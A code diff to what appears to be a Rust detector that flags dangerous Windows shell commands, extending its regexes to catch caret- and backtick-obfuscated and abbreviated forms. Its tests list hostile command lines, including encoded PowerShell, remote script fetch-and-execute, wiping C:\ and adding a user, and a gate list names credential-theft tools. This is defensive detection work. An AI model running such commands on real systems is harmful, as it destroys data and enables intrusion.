@@ -12,7 +12,7 @@ const PATTERNS: &[(&str, Severity, &str)] = &[
     (
         "downloads_and_runs",
         Critical,
-        r"(?:\biex\b|invoke-expression)[^\n]{0,200}?(?:downloadstring|invoke-webrequest|\biwr\b|\birm\b|invoke-restmethod|net\.webclient|\bcurl\b|\bwget\b)",
+        r"(?:\biex\b|invoke-expression|scriptblock\]::create\()[^\n]{0,200}?(?:downloadstring|invoke-webrequest|\biwr\b|\birm\b|invoke-restmethod|net\.webclient|\bcurl\b|\bwget\b)",
     ),
     (
         "downloads_and_runs",
@@ -32,12 +32,12 @@ const PATTERNS: &[(&str, Severity, &str)] = &[
     (
         "runs_encoded_code",
         Critical,
-        r"\bpowershell(?:\.exe)?\b[^\n]*\s-e(?:c|nc|ncodedcommand)?\s+[a-z0-9+/=]{16,}|\bpwsh\b[^\n]*\s-e(?:c|nc|ncodedcommand)?\s+[a-z0-9+/=]{16,}|frombase64string\([^\n]*(?:iex|invoke-expression)|(?:iex|invoke-expression)[^\n]*frombase64string\(",
+        r"\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]*\s[-/]e(?:c|n|nc|nco|ncod|ncode|ncoded\w*)?\s+[\x22']?[a-z0-9+/=]{16,}|frombase64string\([^\n]*(?:iex|invoke-expression)|(?:iex|invoke-expression)[^\n]*frombase64string\(",
     ),
     (
         "destroys_files",
         Critical,
-        r"\bremove-item\b[^\n]*(?:-recurse|-r\b)[^\n]*[\s\x22'](?:[a-z]:\\?(?:\*|[\s\x22']|$)|[a-z]:\\(?:windows|users|program files)|\$env:(?:systemroot|windir|userprofile|systemdrive|programfiles)|~|\\\*|/\s|/$|/\*)",
+        r"(?:\bremove-item\b[^\n]*(?:-recurse|-r\b)|\b(?:ri|rm)\s+-r\S*\s+-fo?r?c?e?\b|\b(?:ri|rm)\s+-fo\S*\s+-r\S*)[^\n]*[\s\x22'](?:[a-z]:\\?(?:\*|[\s\x22']|$)|[a-z]:\\(?:windows|users|program files)|\$env:(?:systemroot|windir|userprofile|systemdrive|programfiles)|~|\\\*|/\s|/$|/\*)",
     ),
     (
         "destroys_files",
@@ -52,7 +52,7 @@ const PATTERNS: &[(&str, Severity, &str)] = &[
     (
         "wipes_disk",
         Critical,
-        r"\bformat(?:\.com)?\s+[a-z]:(?:\s+/[a-z]|\s*$)|\b(?:clear-disk|format-volume|initialize-disk|remove-partition)\b[^\n]*-|\bdiskpart\b[^\n]*clean|\bcipher(?:\.exe)?\s+/w:|\bclean\s+all\s*$",
+        r"\bformat(?:\.com)?\s+[a-z]:(?:\s+/[a-z]|\s*$)|\b(?:clear-disk|format-volume|initialize-disk|remove-partition)\b[^\n]*-|\bdiskpart\b[^\n]*clean|\bcipher(?:\.exe)?\s+/w:|^\s*clean\s+all\s*$",
     ),
     (
         "destroys_backups",
@@ -99,11 +99,26 @@ static ALL: LazyLock<Option<Regex>> = LazyLock::new(|| {
 /// Words of which one stands in every line that is looked at. Their boundaries are those of ASCII, which are more: an
 /// automaton knows no others.
 static GATE: LazyLock<Option<Regex>> = LazyLock::new(|| {
-    Regex::new(r"(?i)(?:(?-u:\b)iex(?-u:\b)|invoke-|downloadstring|downloadfile|(?-u:\b)iwr(?-u:\b)|(?-u:\b)irm(?-u:\b)|bitstransfer|certutil|bitsadmin|mshta|regsvr32|rundll32|msiexec|wmic|powershell|pwsh|frombase64|remove-item|(?-u:\b)r(?:d|mdir)\s+/|(?-u:\b)del\s|format|disk|cipher|(?-u:\b)clean(?-u:\b)|vssadmin|wbadmin|bcdedit|shadow|mppreference|netsh|netfirewall|(?-u:\b)sc(?-u:\b)|defend|amsi|stop-service|executionpolicy|wevtutil|clear-|psreadline|fsutil|(?-u:\b)reg(?-u:\b)|schtasks|(?-u:\b)net1?(?-u:\b)|local(?:user|group)|scheduledtask|startup|itemproperty|eventfilter|mimikatz|sekurlsa|lsass|comsvcs|ntdsutil)").ok()
+    Regex::new(r"(?i)(?:(?-u:\b)iex(?-u:\b)|invoke-|downloadstring|downloadfile|(?-u:\b)iwr(?-u:\b)|(?-u:\b)irm(?-u:\b)|bitstransfer|certutil|bitsadmin|mshta|regsvr32|rundll32|msiexec|wmic|powershell|pwsh|frombase64|remove-item|(?-u:\b)ri\s+-|rm\s+-\S+\s+-\S+\s+[\x22']?[a-z]:|scriptblock|(?-u:\b)r(?:d|mdir)\s+/|(?-u:\b)del\s|format|disk|cipher|(?-u:\b)clean(?-u:\b)|vssadmin|wbadmin|bcdedit|shadow|mppreference|netsh|netfirewall|(?-u:\b)sc(?-u:\b)|defend|amsi|stop-service|executionpolicy|wevtutil|clear-|psreadline|fsutil|(?-u:\b)reg(?-u:\b)|schtasks|(?-u:\b)net1?(?-u:\b)|local(?:user|group)|scheduledtask|startup|itemproperty|eventfilter|mimikatz|sekurlsa|lsass|comsvcs|ntdsutil)").ok()
 });
 
 pub(super) fn judge(line: &str) -> Option<(&'static str, Severity, Range<usize>)> {
-    if !GATE.as_ref()?.is_match(line) || line.trim_start().starts_with(['#', '/', '*', ';']) {
+    if line.trim_start().starts_with(['#', '/', '*', ';']) {
+        return None;
+    }
+    let found = judge_as_it_is(line);
+    // Marks that both shells skip inside of words: `d^el`, `` I`EX ``.
+    if found.is_none() && PARTED.as_ref()?.is_match(line) {
+        let (rule, severity, _) = judge_as_it_is(&line.replace(['^', '`'], ""))?;
+        return Some((rule, severity, 0..line.len()));
+    }
+    found
+}
+
+static PARTED: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"[A-Za-z][\^`][A-Za-z]").ok());
+
+fn judge_as_it_is(line: &str) -> Option<(&'static str, Severity, Range<usize>)> {
+    if !GATE.as_ref()?.is_match(line) {
         return None;
     }
     let hit = ALL.as_ref()?.find(line)?;
@@ -143,6 +158,12 @@ mod tests {
             "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y",
             "net user hacker P@ss /add",
             "certutil -urlcache -f http://x/a.exe a.exe & start a.exe",
+            "powershell -nop -Enco SQBFAFgAIAAoAE4AZQB3AC0A",
+            "I`E`X (iwr http://x.example/a.ps1)",
+            "& ([scriptblock]::Create((irm http://x.example/a.ps1)))",
+            "ri -r -fo C:\\*",
+            "d^el /f /s /q C:\\*",
+            "c^m^d /c r^d /s /q C:\\",
         ] {
             assert!(judge(line).is_some(), "{line}");
         }
@@ -153,6 +174,9 @@ mod tests {
             "Invoke-WebRequest https://x.example/a.zip -OutFile a.zip",
             "Get-ExecutionPolicy",
             "rd /s /q node_modules",
+            "RUN dnf clean all",
+            "ri -r -fo .\\build",
+            "a^b | del^ta `x`y",
             "reg query HKLM\\Software",
             "echo vssadmin delete shadows",
             "net use z: \\\\server\\share",
